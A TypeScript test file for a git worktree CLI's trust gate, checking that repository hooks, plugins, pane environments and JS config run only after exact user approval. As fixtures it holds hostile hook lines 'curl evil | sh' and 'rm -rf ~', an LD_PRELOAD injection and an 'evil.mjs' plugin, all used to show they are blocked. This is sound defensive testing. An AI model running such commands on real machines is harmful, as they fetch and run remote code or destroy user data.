// Trust: a repository's hooks, panes, plugins and JS/TS config run only after the user approved
// exactly them; approvals live outside the repo, keyed by the real common dir.
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { isPlumError, onSpawn, type PlumError } from '@plumpots/core';
import { gitRepo, runCli, type GitRepo } from '@plumpots/test-fixtures';
import { describe, expect, it } from 'vitest';
import { openRepo, type PlumContext } from '../src/api/context.js';
import {
  approve,
  ensureTrusted,
  hasPendingCodeConfig,
  isCodeConfigTrusted,
  listTrusted,
  revoke,
  trustStatus,
  trustStoreFile,
} from '../src/api/trust.js';

const HOOK = 'touch "$PLUM_WORKTREE_PATH/hook-ran"';

function repoWithHooks(hooks: string[] = [HOOK]): GitRepo {
  const repo = gitRepo();
  repo.write(
    '.plumrc.yaml',
    `hooks:\n  postCreate:\n${hooks.map((h) => `    - ${JSON.stringify(h)}\n`).join('')}`,
  );
  return repo;
}

const open = (repo: GitRepo, cwd = repo.path) => openRepo({ cwd, env: repo.env });

async function refusal(promise: Promise<unknown>): Promise<PlumError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!isPlumError(error)) throw new Error(`expected a PlumError, got ${String(error)}`);
  return error;
}

/** What a command like `plum create` does: ensureTrusted, then run the repo's hooks. */
async function gateThenRunHooks(
  ctx: PlumContext,
  options: Parameters<typeof ensureTrusted>[1] = {},
): Promise<void> {
  await ensureTrusted(ctx, options);
  const { config } = await ctx.config();
  for (const command of config.hooks.postCreate) {
    execFileSync('/bin/sh', ['-c', command], {
      cwd: ctx.repo.projectRoot,
      env: { ...ctx.env, PLUM_WORKTREE_PATH: ctx.repo.projectRoot },
    });
  }
}

describe('ensureTrusted', () => {
  it('returns at once when the repository config runs nothing, writing no store', async () => {
    const repo = gitRepo();
    repo.write('.plumrc.yaml', 'pots:\n  prefix: x-\n');
    const ctx = await open(repo);
    await ensureTrusted(ctx);
    expect(existsSync(trustStoreFile(repo.env))).toBe(false);
    expect(await trustStatus(ctx)).toMatchObject({ trusted: true, needed: false, commands: [] });
  });

  it('without a terminal refuses with exit 4, listing the unexpanded commands, and runs nothing', async () => {
    const repo = repoWithHooks([HOOK, 'echo "$PLUM_BRANCH"']);
    const ctx = await open(repo);
    const error = await refusal(gateThenRunHooks(ctx));
    expect(error.exitCode).toBe(4);
    expect(error.code).toBe('ERR_PLUM_UNTRUSTED');
    expect(error.message).toContain(join(repo.path, '.plumrc.yaml'));
    expect(error.details).toEqual([
      `hooks.postCreate.0: ${HOOK}`,
      'hooks.postCreate.1: echo "$PLUM_BRANCH"',
    ]);
    expect(error.hint).toBe('review them, then run: plum trust');
    expect(existsSync(join(repo.path, 'hook-ran'))).toBe(false);
    expect(existsSync(trustStoreFile(repo.env))).toBe(false);
  });

  it('spawns no process: the check is config and one small file', async () => {
    const repo = repoWithHooks();
    await approve(await open(repo));
    const ctx = await open(repo); // discovering the repository is git's part, counted elsewhere
    const spawned: string[] = [];
    const stop = onSpawn((argv) => spawned.push(argv.join(' ')));
    try {
      await ensureTrusted(ctx);
    } finally {
      stop();
    }
    expect(spawned).toEqual([]);
  });

  it('`yes: true` does not approve (a --yes for remove must not trust hooks)', async () => {
    const ctx = await open(repoWithHooks());
    const error = await refusal(ensureTrusted(ctx, { yes: true }));
    expect(error.code).toBe('ERR_PLUM_UNTRUSTED');
  });

  it('asks through confirm: no refuses and records nothing, yes records and runs', async () => {
    const repo = repoWithHooks();
    const ctx = await open(repo);
    const asked: Array<[string, string[]]> = [];
    const no = (message: string, details: string[]) => {
      asked.push([message, details]);
      return Promise.resolve(false);
    };
    expect((await refusal(gateThenRunHooks(ctx, { confirm: no }))).exitCode).toBe(4);
    expect(asked).toEqual([
      [
        `${join(repo.path, '.plumrc.yaml')} would run these commands. Trust them?`,
        [`hooks.postCreate.0: ${HOOK}`],
      ],
    ]);
    expect(existsSync(join(repo.path, 'hook-ran'))).toBe(false);
    expect((await trustStatus(ctx)).trusted).toBe(false);

    await gateThenRunHooks(ctx, { confirm: () => Promise.resolve(true) });
    expect(existsSync(join(repo.path, 'hook-ran'))).toBe(true);
    // Recorded: a new run without a terminal goes through.
    await ensureTrusted(await open(repo));
  });

  it('approve → allowed; one changed character → asks again; revoke → untrusted', async () => {
    const repo = repoWithHooks();
    const status = await approve(await open(repo));
    expect(status).toMatchObject({ trusted: true, needed: true });
    await gateThenRunHooks(await open(repo));
    expect(existsSync(join(repo.path, 'hook-ran'))).toBe(true);

    repo.write('.plumrc.yaml', `hooks:\n  postCreate:\n    - ${JSON.stringify(`${HOOK}2`)}\n`);
    const changed = await refusal(ensureTrusted(await open(repo)));
    expect(changed.details).toEqual([`hooks.postCreate.0: ${HOOK}2`]);

    repo.write('.plumrc.yaml', `hooks:\n  postCreate:\n    - ${JSON.stringify(HOOK)}\n`);
    await ensureTrusted(await open(repo)); // back to the approved bytes: approved again
    expect(await revoke(await open(repo))).toBe(true);
    expect(await revoke(await open(repo))).toBe(false);
    expect((await refusal(ensureTrusted(await open(repo)))).exitCode).toBe(4);
  });

  it('user-config hooks need no trust', async () => {
    const repo = gitRepo();
    const userFile = join(repo.env.XDG_CONFIG_HOME!, 'plum', 'config.yaml');
    mkdirSync(dirname(userFile), { recursive: true });
    writeFileSync(
      userFile,
      `hooks:\n  postCreate: [${JSON.stringify(HOOK)}]\nplugins: ["./mine.mjs"]\n`,
    );
    const ctx = await open(repo);
    expect(await trustStatus(ctx)).toMatchObject({ trusted: true, needed: false });
    await gateThenRunHooks(ctx);
    expect(existsSync(join(repo.path, 'hook-ran'))).toBe(true);
  });

  it('plugins, template panes and pane env from the repo need trust too', async () => {
    const repo = gitRepo();
    repo.write(
      '.plumrc.yaml',
      [
        'plugins: ["./evil.mjs"]',
        'pots:',
        '  templates:',
        '    dev:',
        '      windows:',
        '        - name: w',
        '          env: { LD_PRELOAD: /tmp/x.so }',
        '          panes: ["npm run dev", ""]',
        '',
      ].join('\n'),
    );
    const error = await refusal(ensureTrusted(await open(repo)));
    expect(error.details).toEqual([
      'plugins.0: plugin ./evil.mjs',
      'pots.templates.dev.windows.0.panes.0: npm run dev (env LD_PRELOAD=/tmp/x.so)',
      'pots.templates.dev.windows.0.panes.1:  (env LD_PRELOAD=/tmp/x.so)',
    ]);
    await approve(await open(repo));
    // Changing only the pane's environment changes what runs: asks again.
    repo.write(
      '.plumrc.yaml',
      readFileSync(join(repo.path, '.plumrc.yaml'), 'utf8').replace('x.so', 'y.so'),
    );
    expect((await refusal(ensureTrusted(await open(repo)))).exitCode).toBe(4);
  });

  it("ctx.plugins() never imports an untrusted repository's plugin", async () => {
    const repo = gitRepo();
    const sentinel = join(repo.root, 'plugin-imported');
    repo.write('.plumrc.yaml', 'plugins: ["./evil.mjs"]\n');
    repo.write(
      'evil.mjs',
      `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(sentinel)}, '');\nexport default { name: 'evil' };\n`,
    );
    const error = await refusal((await open(repo)).plugins().then((host) => host.load()));
    expect(error.code).toBe('ERR_PLUM_UNTRUSTED');
    expect(existsSync(sentinel)).toBe(false);
    // `plum list` asks for plugin columns: whatever it prints, the plugin is not imported.
    await runCli('plum', ['list'], { cwd: repo.path, env: repo.env });
    expect(existsSync(sentinel)).toBe(false);

    await approve(await open(repo));
    const plugins = await (await (await open(repo)).plugins()).load();
    expect(plugins.map((p) => p.name)).toEqual(['evil']);
    expect(existsSync(sentinel)).toBe(true);
  });

  it('is shared by worktrees with identical commands, not by a branch that changed them', async () => {
    const repo = repoWithHooks();
    repo.commit('config');
    await approve(await open(repo));
    const same = repo.worktree('same', { newBranch: true });
    await ensureTrusted(await open(repo, same));

    const other = repo.worktree('other', { newBranch: true });
    repo.commit('hostile', { '.plumrc.yaml': 'hooks:\n  postCreate: ["curl evil | sh"]\n' }, other);
    const error = await refusal(ensureTrusted(await open(repo, other)));
    expect(error.details).toEqual(['hooks.postCreate.0: curl evil | sh']);
  });
});

describe('the store', () => {
  it('lives in $XDG_STATE_HOME/plum/trust.json, mode 0600, keyed by the real common dir', async () => {
    const repo = repoWithHooks();
    const ctx = await open(repo);
    await approve(ctx);
    const file = trustStoreFile(repo.env);
    expect(file).toBe(join(repo.env.XDG_STATE_HOME!, 'plum', 'trust.json'));
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const store = JSON.parse(readFileSync(file, 'utf8')) as {
      repos: Record<string, { hash: string; commands: unknown; file: string; approvedAt: string }>;
    };
    const key = realpathSync(join(repo.path, '.git'));
    expect(Object.keys(store.repos)).toEqual([key]);
    expect(store.repos[key]).toEqual({
      hash: expect.stringMatching(/^[0-9a-f]{64}$/) as unknown,
      commands: [{ key: 'hooks.postCreate.0', command: HOOK }],
      file: join(repo.path, '.plumrc.yaml'),
      approvedAt: expect.any(String) as unknown,
    });
    expect(await listTrusted(repo.env)).toEqual([{ repo: key, ...store.repos[key] }]);
    expect(existsSync(join(repo.path, '.plumrc.yaml'))).toBe(true);
    // Nothing inside the repository: approval is not the repository's to give.
    expect(repo.git(['status', '--porcelain', '--ignored'])).toBe('?? .plumrc.yaml\n');
  });

  it('keeps the approvals of other repositories, and fails closed on a corrupt file', async () => {
    const a = repoWithHooks();
    const b = repoWithHooks(['make']);
    const env = { ...b.env, XDG_STATE_HOME: a.env.XDG_STATE_HOME! };
    await approve(await open(a));
    await approve(await openRepo({ cwd: b.path, env }));
    expect((await listTrusted(a.env)).map((e) => e.repo).sort()).toEqual(
      [realpathSync(join(a.path, '.git')), realpathSync(join(b.path, '.git'))].sort(),
    );

    writeFileSync(trustStoreFile(a.env), '{ not json');
    expect((await trustStatus(await open(a))).trusted).toBe(false);
    expect(await listTrusted(a.env)).toEqual([]);
    await approve(await open(a)); // rewrites a valid store
    expect((await trustStatus(await open(a))).trusted).toBe(true);
  });

  it('approve refuses when the config changed since the status the user reviewed', async () => {
    const repo = repoWithHooks();
    const shown = await trustStatus(await open(repo));
    repo.write('.plumrc.yaml', 'hooks:\n  postCreate: ["rm -rf ~"]\n');
    const error = await refusal(approve(await open(repo), { hash: shown.hash }));
    expect(error.code).toBe('ERR_PLUM_TRUST_CHANGED');
    expect((await trustStatus(await open(repo))).trusted).toBe(false);
  });
});

describe('a JS/TS repository config', () => {
  const script = (sentinel: string, prefix: string) =>
    `require('node:fs').writeFileSync(${JSON.stringify(sentinel)}, 'ran');\n` +
    `module.exports = { pots: { prefix: ${JSON.stringify(prefix)} } };\n`;

  it('is not run until trusted; once approved the same context loads it', async () => {
    const repo = gitRepo();
    const sentinel = join(repo.root, 'sentinel');
    const file = join(repo.path, '.plumrc.cjs');
    writeFileSync(file, script(sentinel, 'code-'));
    const ctx = await open(repo);
    expect((await ctx.config()).config.pots.prefix).toBe('');
    expect(hasPendingCodeConfig(await ctx.config())).toBe(true);
    const status = await trustStatus(ctx);
    expect(status).toMatchObject({
      trusted: false,
      needed: true,
      file,
      codeFile: file,
      commands: [],
    });
    expect((await refusal(ensureTrusted(ctx))).details).toEqual([
      `${file}: JavaScript/TypeScript config, runs as code when loaded`,
    ]);
    expect(existsSync(sentinel)).toBe(false);

    await ensureTrusted(ctx, { confirm: () => Promise.resolve(true) });
    expect((await ctx.config()).config.pots.prefix).toBe('code-');
    expect(hasPendingCodeConfig(await ctx.config())).toBe(false);
    expect(existsSync(sentinel)).toBe(true);
    expect(await isCodeConfigTrusted(ctx, file)).toBe(true);
    expect((await trustStatus(ctx)).trusted).toBe(true);
  });

  it('an edited code config is untrusted again and not run', async () => {
    const repo = gitRepo();
    const sentinel = join(repo.root, 'sentinel');
    const file = join(repo.path, 'plum.config.cjs');
    writeFileSync(file, script(join(repo.root, 'first'), 'a-'));
    await approve(await open(repo));
    writeFileSync(file, script(sentinel, 'b-'));
    const ctx = await open(repo);
    expect((await ctx.config()).config.pots.prefix).toBe('');
    expect((await trustStatus(ctx)).trusted).toBe(false);
    expect(existsSync(sentinel)).toBe(false);
  });
});

describe('plum trust (built bin)', () => {
  it('without a terminal: prints the commands, exit 4; --yes approves; --list; --revoke', async () => {
    const repo = repoWithHooks();
    const run = (...args: string[]) => runCli('plum', args, { cwd: repo.path, env: repo.env });

    const refused = await run('trust');
    expect(refused.exitCode).toBe(4);
    expect(refused.stdout).toContain(`hooks.postCreate.0: ${HOOK}`);
    expect(refused.stderr).toContain(`hooks.postCreate.0: ${HOOK}`);
    expect(refused.stderr).toContain('plum trust --yes');

    const yes = await run('trust', '--yes', '--json');
    expect(yes.exitCode).toBe(0);
    expect(JSON.parse(yes.stdout)).toMatchObject({
      trusted: true,
      needed: true,
      commands: [{ key: 'hooks.postCreate.0', command: HOOK }],
    });

    const list = await run('trust', '--list', '--json');
    expect(JSON.parse(list.stdout)).toEqual([
      expect.objectContaining({ repo: realpathSync(join(repo.path, '.git')) }),
    ]);
    const human = await run('trust', '--list');
    expect(human.stdout).toContain(realpathSync(join(repo.path, '.git')));

    expect((await run('trust')).stderr).toContain('already trusted');
    const revoked = await run('trust', '--revoke', '--json');
    expect(JSON.parse(revoked.stdout)).toEqual({
      repo: realpathSync(join(repo.path, '.git')),
      revoked: true,
    });
    expect((await run('trust')).exitCode).toBe(4);
  });

  it('gates `plum create`: refused without approval, runs after `plum trust --yes`, asks again on change', async () => {
    const repo = repoWithHooks();
    const run = (...args: string[]) => runCli('plum', args, { cwd: repo.path, env: repo.env });
    const worktrees = join(repo.root, 'repo.worktrees');

    const refused = await run('create', 'feat');
    expect(refused.exitCode).toBe(4);
    expect(refused.stderr).toContain(`hooks.postCreate.0: ${HOOK}`);
    expect(refused.stderr).toContain('plum trust');
    expect(existsSync(worktrees)).toBe(false); // nothing was made, no hook ran

    expect((await run('trust', '--yes')).exitCode).toBe(0);
    expect((await run('create', 'feat')).exitCode).toBe(0);
    expect(existsSync(join(worktrees, 'feat', 'hook-ran'))).toBe(true);

    repo.write('.plumrc.yaml', `hooks:\n  postCreate:\n    - ${JSON.stringify(`${HOOK} `)}\n`);
    const changed = await run('create', 'other');
    expect(changed.exitCode).toBe(4);
    expect(changed.stderr).toContain(`hooks.postCreate.0: ${HOOK} `);
    expect(existsSync(join(worktrees, 'other'))).toBe(false);
  });

  it('`plum remove --yes` does not approve a repository preRemove hook', async () => {
    const repo = gitRepo();
    const wt = repo.worktree('feat', { newBranch: true });
    const sentinel = join(repo.root, 'pre-remove-ran');
    repo.write('.plumrc.yaml', `hooks:\n  preRemove: [${JSON.stringify(`touch ${sentinel}`)}]\n`);
    const r = await runCli('plum', ['remove', 'feat', '--yes'], { cwd: repo.path, env: repo.env });
    expect(r.exitCode).toBe(4);
    expect(r.stderr).toContain(`hooks.preRemove.0: touch ${sentinel}`);
    expect(existsSync(sentinel)).toBe(false);
    expect(existsSync(wt)).toBe(true);
  });

  it('says there is nothing to trust when the config runs nothing', async () => {
    const repo = gitRepo();
    const r = await runCli('plum', ['trust'], { cwd: repo.path, env: repo.env });
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toContain('nothing to trust');
  });

  it('a .plumrc.cjs is not run by config or doctor until `plum trust --yes`', async () => {
    const repo = gitRepo();
    const sentinel = join(repo.root, 'sentinel');
    writeFileSync(
      join(repo.path, '.plumrc.cjs'),
      `require('node:fs').writeFileSync(${JSON.stringify(sentinel)}, 'ran');\n` +
        `module.exports = { pots: { prefix: 'from-code-' } };\n`,
    );
    const run = (...args: string[]) => runCli('plum', args, { cwd: repo.path, env: repo.env });

    const before = await run('config', '--json');
    expect(before.exitCode).toBe(0);
    expect((JSON.parse(before.stdout) as { pots: { prefix: string } }).pots.prefix).toBe('');
    expect(before.stderr).toContain('not trusted');
    const doctor = await run('doctor', '--json');
    expect(doctor.exitCode).toBe(0);
    expect(JSON.parse(doctor.stdout)).toMatchObject({
      checks: expect.arrayContaining([
        expect.objectContaining({ id: 'trust', status: 'warn' }),
      ]) as unknown,
    });
    expect(existsSync(sentinel)).toBe(false);

    expect((await run('trust', '--yes')).exitCode).toBe(0);
    const after = await run('config', '--json');
    expect((JSON.parse(after.stdout) as { pots: { prefix: string } }).pots.prefix).toBe(
      'from-code-',
    );
    expect(existsSync(sentinel)).toBe(true);
  });
});
